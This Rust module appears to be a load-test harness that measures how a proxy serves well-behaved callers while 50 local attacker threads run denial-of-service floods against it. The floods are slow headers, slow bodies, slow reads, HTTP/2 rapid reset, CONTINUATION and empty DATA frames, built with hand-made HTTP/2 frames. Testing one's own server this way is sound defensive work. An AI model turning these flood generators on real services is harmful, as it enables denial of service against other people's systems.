//! A well-behaved caller beside attackers, and beside as many callers who are well-behaved.
//!
//! Attackers are a process of their own that has a core only while nobody else wants it (`SCHED_IDLE`, sched(7)), since
//! they share the machine with what they attack: what they cost is what the proxy spends on them. Niceness alone would
//! not do, under which the kernel lets them end their slice before it lets whom they woke begin. Each begins anew at most
//! twice a second. Refuses to go on where it cannot be started.

use std::io::{BufReader, Read as _, Write};
use std::path::Path;
use std::process::{Child, Command, Stdio};
use std::str::FromStr;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

use crate::Result;
use crate::bodies::LARGE;
use crate::client::{Client, Raw};
use crate::options::{Protocol, Size};

/// Attackers, or callers in their place; each has one connection.
pub const ATTACKERS: usize = 50;
/// Between two connections of an attacker, and between two requests of a caller in its place.
const PAUSE: Duration = Duration::from_millis(500);
/// Well-behaved callers whose answers are timed.
const CALLERS: usize = 4;
/// Between two requests of such a caller.
const THOUGHT: Duration = Duration::from_millis(5);
/// How long all attackers are at work before anything is timed.
const BEFORE: Duration = Duration::from_millis(500);
/// Who waits longer is not served.
const PATIENCE: Duration = Duration::from_secs(5);

/// What happens beside the well-behaved callers.
#[derive(Clone, Copy, PartialEq, Eq)]
pub enum Flood {
    /// Nothing bad: as many callers, each with a request now and then.
    Calm,
    /// Nothing bad either, but each request on a connection of its own: what beginning anew costs by itself.
    Reconnects,
    /// A head that comes byte by byte.
    SlowHeads,
    /// A body that comes byte by byte.
    SlowBodies,
    /// A large answer that nobody reads.
    SlowReads,
    /// HTTP/2 requests, each reset at once (CVE-2023-44487).
    Resets,
    /// A head in frames without end (CVE-2024-27316 and others).
    Continuation,
    /// A body of empty frames (CVE-2019-9518).
    EmptyData,
}

impl Flood {
    pub const ALL: [Flood; 7] = [
        Flood::Reconnects,
        Flood::SlowHeads,
        Flood::SlowBodies,
        Flood::SlowReads,
        Flood::Resets,
        Flood::Continuation,
        Flood::EmptyData,
    ];

    pub fn name(self) -> &'static str {
        match self {
            Flood::Calm => "calm",
            Flood::Reconnects => "reconnects",
            Flood::SlowHeads => "slow headers",
            Flood::SlowBodies => "slow bodies",
            Flood::SlowReads => "slow reads",
            Flood::Resets => "rapid resets",
            Flood::Continuation => "CONTINUATION",
            Flood::EmptyData => "empty DATA",
        }
    }
}

impl Flood {
    /// Whether it is an attack, and not only beside one as a measure of it.
    pub fn is_attack(self) -> bool {
        !matches!(self, Flood::Calm | Flood::Reconnects)
    }
}

impl FromStr for Flood {
    type Err = String;

    fn from_str(name: &str) -> std::result::Result<Flood, String> {
        let mut all = Flood::ALL.into_iter().chain([Flood::Calm]);
        let found = all.find(|one| one.name() == name);
        found.ok_or_else(|| format!("no flood is called `{name}`"))
    }
}

/// What the well-behaved callers saw.
pub struct Seen {
    pub served: usize,
    pub failed: usize,
    /// In microseconds.
    pub p99: f64,
    /// Connections that attackers made meanwhile.
    pub attacks: usize,
}

/// Times well-behaved callers for a while beside a flood.
pub fn beside(
    flood: Flood,
    port: u16,
    authority: &Path,
    token: &str,
    time: Duration,
) -> Result<Seen> {
    let attack = Attack::start(flood, port, authority, token)?;
    attack.at_work()?;
    std::thread::sleep(BEFORE);
    let client = Client::new(authority, token)?;
    let all: Vec<(Vec<f64>, usize)> = std::thread::scope(|scope| {
        let callers: Vec<_> = (0..CALLERS)
            .map(|_| scope.spawn(|| caller(&client, port, time)))
            .collect();
        let ended = callers.into_iter().map(|caller| caller.join());
        ended.map(|seen| seen.expect("no caller panics")).collect()
    });
    let attacks = attack.end()?;
    let mut times: Vec<f64> = all.iter().flat_map(|(times, _)| times).copied().collect();
    times.sort_by(f64::total_cmp);
    let last = times.len().saturating_sub(1);
    Ok(Seen {
        served: times.len(),
        failed: all.iter().map(|(_, failed)| failed).sum(),
        p99: times.get(last * 99 / 100).copied().unwrap_or(f64::NAN),
        attacks,
    })
}

/// The time of each answer in microseconds, and how many did not come.
fn caller(client: &Client, port: u16, time: Duration) -> (Vec<f64>, usize) {
    let (mut times, mut failed) = (Vec::new(), 0);
    let mut connection = None;
    let end = Instant::now() + time;
    while Instant::now() < end {
        let start = Instant::now();
        let answer = match connection.take() {
            Some(known) => Ok(known),
            None => client.connect(port),
        };
        let answer = answer.and_then(|mut open| {
            open.get(Size::Record.path(), |_| ())?;
            Ok(open)
        });
        match answer {
            Ok(open) if start.elapsed() < PATIENCE => {
                times.push(start.elapsed().as_secs_f64() * 1e6);
                connection = Some(open);
            }
            Ok(_) | Err(_) => failed += 1,
        }
        std::thread::sleep(THOUGHT);
    }
    (times, failed)
}

/// The attackers, until this is dropped.
struct Attack {
    child: Child,
    /// Connections they made.
    begun: Arc<AtomicUsize>,
    counting: Option<JoinHandle<()>>,
}

impl Attack {
    fn start(flood: Flood, port: u16, authority: &Path, token: &str) -> Result<Attack> {
        let mut child = Command::new("setpriv")
            .args(["--pdeathsig", "KILL", "chrt", "--idle", "0"])
            .arg(std::env::current_exe()?)
            .args(["--attack", flood.name(), "--port", &port.to_string()])
            .arg("--authority")
            .arg(authority)
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .spawn()?;
        let stdin = child.stdin.take();
        stdin.expect("it is piped").write_all(token.as_bytes())?;
        let stdout = child.stdout.take().expect("it is piped");
        let begun = Arc::new(AtomicUsize::new(0));
        let counter = Arc::clone(&begun);
        let counting = std::thread::spawn(move || {
            for _ in BufReader::new(stdout)
                .bytes()
                .take_while(|byte| byte.is_ok())
            {
                counter.fetch_add(1, Ordering::Relaxed);
            }
        });
        Ok(Attack {
            child,
            begun,
            counting: Some(counting),
        })
    }

    /// Waits until every attacker is at work. Whoever spends all of the machine on some of them leaves the others no time
    /// to begin, and is flooded all the same. Refuses a flood that is none.
    fn at_work(&self) -> Result<()> {
        let start = Instant::now();
        let begun = || self.begun.load(Ordering::Relaxed);
        while begun() < ATTACKERS && start.elapsed() < PATIENCE {
            std::thread::sleep(THOUGHT);
        }
        match begun() {
            0 => Err("no attacker began".into()),
            _ => Ok(()),
        }
    }

    /// How many connections there were.
    fn end(mut self) -> Result<usize> {
        self.child.kill()?;
        if let Some(counting) = self.counting.take() {
            counting.join().expect("nobody panics while counting");
        }
        Ok(self.begun.load(Ordering::Relaxed))
    }
}

impl Drop for Attack {
    fn drop(&mut self) {
        // Who is gone needs no end.
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// Attacks until this process is ended.
pub fn attack(flood: Flood, port: u16, authority: &Path) -> Result<()> {
    let mut token = String::new();
    std::io::stdin().read_to_string(&mut token)?;
    let client = Client::new(authority, token.trim())?;
    std::thread::scope(|scope| {
        for _ in 0..ATTACKERS {
            scope.spawn(|| {
                loop {
                    let start = Instant::now();
                    // To be cut off is what an attacker expects.
                    let _ = one(flood, &client, port);
                    std::thread::sleep(PAUSE.saturating_sub(start.elapsed()));
                }
            });
        }
    });
    Ok(())
}

/// A byte for each connection that stands, for whoever started this.
fn begun() -> Result<()> {
    let mut stdout = std::io::stdout();
    stdout.write_all(b"!")?;
    Ok(stdout.flush()?)
}

/// One connection of an attacker, until it is cut off.
fn one(flood: Flood, client: &Client, port: u16) -> Result<()> {
    let over_h1 = |head: String| -> Result<Raw> {
        let mut raw = client.raw(port, Protocol::H1)?;
        raw.write_all(head.as_bytes())?;
        raw.flush()?;
        begun()?;
        Ok(raw)
    };
    let host = format!(
        "Host: localhost\r\nAuthorization: Bearer {}\r\n",
        client.token()
    );
    match flood {
        Flood::Calm => {
            let mut connection = client.connect(port)?;
            begun()?;
            loop {
                connection.get(Size::Record.path(), |_| ())?;
                std::thread::sleep(PAUSE);
            }
        }
        Flood::Reconnects => {
            let mut connection = client.connect(port)?;
            begun()?;
            connection.get(Size::Record.path(), |_| ())?;
            Ok(())
        }
        Flood::SlowHeads => {
            let target = Size::Record.path();
            let raw = over_h1(format!("GET {target} HTTP/1.1\r\n{host}X-Slow: "))?;
            drip(raw)
        }
        Flood::SlowBodies => {
            let json = "Content-Type: application/json\r\nContent-Length: 60000\r\n\r\n{\"q\":\"";
            let raw = over_h1(format!("POST /customers/search HTTP/1.1\r\n{host}{json}"))?;
            drip(raw)
        }
        Flood::SlowReads => {
            let _raw = over_h1(format!("GET {LARGE} HTTP/1.1\r\n{host}\r\n"))?;
            loop {
                std::thread::park();
            }
        }
        Flood::Resets | Flood::Continuation | Flood::EmptyData => frames(flood, client, port),
    }
}

/// A byte now and then.
fn drip(mut raw: Raw) -> Result<()> {
    loop {
        raw.write_all(b"x")?;
        raw.flush()?;
        std::thread::sleep(PAUSE / 5);
    }
}

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// Frames (RFC 9113, 4.1) as fast as they are taken.
fn frames(flood: Flood, client: &Client, port: u16) -> Result<()> {
    let mut raw = client.raw(port, Protocol::H2)?;
    raw.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")?;
    raw.write_all(&frame(SETTINGS, 0, 0, &[]))?;
    begun()?;
    let get = block("GET", Size::Record.path(), client.token());
    let post = block("POST", "/customers/search", client.token());
    match flood {
        Flood::Continuation => raw.write_all(&frame(HEADERS, END_STREAM, 1, &get))?,
        Flood::EmptyData => raw.write_all(&frame(HEADERS, END_HEADERS, 1, &post))?,
        _ => {}
    }
    let mut stream = 1;
    loop {
        let mut batch = Vec::new();
        for _ in 0..64 {
            match flood {
                Flood::Continuation => batch.extend(frame(CONTINUATION, 0, 1, &[0; 16])),
                Flood::EmptyData => batch.extend(frame(DATA, 0, 1, &[])),
                _ => {
                    batch.extend(frame(HEADERS, END_STREAM | END_HEADERS, stream, &get));
                    batch.extend(frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
                    stream += 2;
                }
            }
        }
        raw.write_all(&batch)?;
        raw.flush()?;
    }
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("a short payload");
    let head = [
        &length.to_be_bytes()[1..],
        &[kind, flags],
        &stream.to_be_bytes(),
    ]
    .concat();
    [&head, payload].concat()
}

/// A request's fields, none of them in a table (RFC 7541, 6.2.2).
fn block(method: &str, path: &str, token: &str) -> Vec<u8> {
    let bearer = format!("Bearer {token}");
    let fields = [
        (":method", method),
        (":scheme", "https"),
        (":authority", "localhost"),
        (":path", path),
        ("authorization", &bearer),
        ("content-type", "application/json"),
    ];
    let coded = fields.map(|(name, value)| [vec![0], text(name), text(value)].concat());
    coded.concat()
}

/// A string with its length in a prefix of seven bits (RFC 7541, 5.1 and 5.2).
fn text(text: &str) -> Vec<u8> {
    let mut coded = Vec::new();
    match u8::try_from(text.len()) {
        Ok(short @ 0..127) => coded.push(short),
        _ => {
            coded.push(127);
            let mut left = text.len() - 127;
            while left >= 128 {
                coded.push((left % 128) as u8 | 0x80);
                left /= 128;
            }
            coded.push(left as u8);
        }
    }
    coded.extend_from_slice(text.as_bytes());
    coded
}
